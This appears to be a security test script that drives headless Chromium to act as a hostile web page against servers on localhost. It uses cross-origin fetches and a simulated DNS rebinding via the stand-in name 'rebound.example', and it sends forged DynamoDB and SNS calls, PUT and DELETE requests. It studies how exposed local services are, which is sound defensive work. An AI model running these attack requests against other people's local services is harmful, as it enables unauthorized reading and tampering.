// Does to servers of this machine what a web page of another origin can do, in a real browser, and prints what the page
// learned, as JSON. Usage: node attack.mjs '{"origin": URL, "ports": [N, …], "paths": […]}'. A page of the origin asks
// first; then one of a name that the attacker's DNS lets point to 127.0.0.1.
import chromium from "@sparticuz/chromium";
import puppeteer from "puppeteer-core";

const { origin, ports, paths } = JSON.parse(process.argv[2]);
const rebound = "rebound.example";
const careless = ["--disable-web-security", "--allow-running-insecure-content", "--disable-site-isolation-trials"];
const browser = await puppeteer.launch({
  args: [...chromium.args.filter((arg) => !careless.includes(arg)), "--no-sandbox",
    `--host-resolver-rules=MAP ${rebound} 127.0.0.1`],
  executablePath: await chromium.executablePath(),
  headless: "shell",
});

// ask runs in the page: it sends every kind of request that a page can, and tells which answers it could read.
async function ask(base, paths) {
  const json = { "Content-Type": "application/x-amz-json-1.0", "X-Amz-Target": "DynamoDB_20120810.ListTables" };
  const signed = { ...json, Authorization: "AWS4-HMAC-SHA256 Credential=local/20260101/us-east-1/dynamodb/aws4_request" };
  const form = new URLSearchParams({ Action: "CreateTopic", Name: "attacked" });
  const kinds = [
    {}, { mode: "no-cors" }, { method: "POST", body: "{}", mode: "no-cors" }, { method: "POST", body: "{}" },
    { method: "POST", body: form, mode: "no-cors" }, { method: "POST", body: form },
    { method: "POST", body: "{}", headers: json }, { method: "POST", body: "{}", headers: signed },
    { method: "PUT", body: "attacked" }, { method: "DELETE" },
    { method: "POST", body: Object.assign(new FormData(), {}), mode: "no-cors" },
  ];
  const read = [];
  for (const path of paths) {
    for (const kind of kinds) {
      try {
        const answer = await fetch(base + path, { ...kind, signal: AbortSignal.timeout(3000) });
        if (answer.type !== "opaque") read.push({ path, method: kind.method ?? "GET", status: answer.status });
      } catch { /* refused, or not to be read */ }
    }
  }
  await Promise.all([
    new Promise((done) => {
      const socket = new WebSocket(base.replace("http", "ws") + "/");
      socket.onopen = () => { read.push({ path: "/", method: "WebSocket", status: 101 }); done(); };
      socket.onerror = done;
    }),
    new Promise((done) => {
      const image = new Image();
      image.onload = () => { read.push({ path: "/", method: "img", status: 200 }); done(); };
      image.onerror = done;
      image.src = base + "/";
    }),
  ]);
  return read;
}

try {
  const result = { read: {}, rebound: {} };
  const page = await browser.newPage();
  await page.goto(origin);
  for (const port of ports) result.read[port] = await page.evaluate(ask, `http://127.0.0.1:${port}`, paths);
  const other = await browser.newPage();
  await other.setRequestInterception(true);
  other.on("request", (request) => // the page itself comes from the attacker, before the name points here
    request.isNavigationRequest() ? request.respond({ contentType: "text/html", body: "<p>page</p>" }) : request.continue());
  for (const port of ports) {
    const base = `http://${rebound}:${port}`;
    await other.goto(base + "/");
    result.rebound[port] = await other.evaluate(ask, base, paths);
  }
  console.log(JSON.stringify(result));
} finally {
  await browser.close();
}
